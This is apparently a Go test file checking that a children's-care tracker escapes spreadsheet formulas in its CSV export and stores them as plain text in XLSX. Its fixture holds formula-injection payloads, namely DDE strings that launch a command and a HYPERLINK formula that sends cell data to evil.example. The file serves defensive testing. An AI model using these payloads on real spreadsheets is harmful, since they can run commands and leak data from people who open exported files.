package tracker

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// injected is a tracker of one child whose team name, reason and period
// are formulas a spreadsheet would run, and whose review is -3 days
// overdue (a number, which must stay one).
func injected(t *testing.T) (*Table, map[string]int) {
	t.Helper()
	at := map[string]int{}
	for i, c := range Columns {
		at[c.Mart] = i
	}
	row := make([]any, len(Columns))
	row[at["person_id"]] = "p1"
	row[at["team"]] = "=1+1+cmd|calc!A0"
	row[at["iro_id"]] = "@SUM(1+1)*cmd|' /C calc'!A0"
	row[at["social_worker_id"]] = "+1+1"
	row[at["legal_status"]] = "-2+3"
	row[at["placement_type"]] = "\tU4"
	row[at["order_type"]] = "\r=1"
	row[at["rag_reason"]] = `=HYPERLINK("http://evil.example/?"&A2, "click")`
	row[at["review_days_overdue"]] = int64(-3)
	row[at["days_in_care"]] = int64(12)
	row[at["as_at_date"]] = time.Date(2024, 6, 30, 0, 0, 0, 0, time.UTC)
	row[at["rag"]] = "Red"
	return &Table{AsAt: time.Date(2024, 6, 30, 0, 0, 0, 0, time.UTC), Rows: [][]any{row}}, at
}

func TestCSVEscapesFormulas(t *testing.T) {
	tab, at := injected(t)
	var b bytes.Buffer
	if err := WriteCSV(&b, tab); err != nil {
		t.Fatal(err)
	}
	raw := b.String()
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := recs[1]
	for mart, want := range map[string]string{
		"team":                "'=1+1+cmd|calc!A0",
		"iro_id":              "'@SUM(1+1)*cmd|' /C calc'!A0",
		"social_worker_id":    "'+1+1",
		"legal_status":        "'-2+3",
		"placement_type":      "'\tU4",
		"order_type":          "'\r=1",
		"rag_reason":          `'=HYPERLINK("http://evil.example/?"&A2, "click")`,
		"person_id":           "p1",
		"review_days_overdue": "-3",
		"days_in_care":        "12",
		"as_at_date":          "2024-06-30",
		"rag":                 "Red",
	} {
		if got[at[mart]] != want {
			t.Errorf("%s = %q, want %q", mart, got[at[mart]], want)
		}
	}
	// The raw line quotes the cell that holds a quote, as CSV does.
	if !strings.Contains(raw, `"'=HYPERLINK(""http://evil.example/?""&A2, ""click"")"`) {
		t.Errorf("the HYPERLINK cell is not quoted:\n%q", raw)
	}
}

// TestXLSXWritesTextAsText checks that excelize stores a formula-like team
// name as a string cell, never as a formula: XLSX needs no escaping.
func TestXLSXWritesTextAsText(t *testing.T) {
	tab, at := injected(t)
	var b bytes.Buffer
	if err := WriteXLSX(&b, tab, true); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cell, _ := excelize.CoordinatesToCellName(at["team"]+1, 2)
	for _, sheet := range f.GetSheetList()[:2] {
		formula, err := f.GetCellFormula(sheet, cell)
		if err != nil || formula != "" {
			t.Errorf("%s!%s has formula %q (%v)", sheet, cell, formula, err)
		}
		typ, _ := f.GetCellType(sheet, cell)
		v, _ := f.GetCellValue(sheet, cell)
		if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString || v != "=1+1+cmd|calc!A0" {
			t.Errorf("%s!%s is %v %q, want the team's name as a string", sheet, cell, typ, v)
		}
	}
	overdue, _ := excelize.CoordinatesToCellName(at["review_days_overdue"]+1, 2)
	if v, _ := f.GetCellValue("All children", overdue); v != "-3" {
		t.Errorf("review days overdue = %q, want -3", v)
	}
}
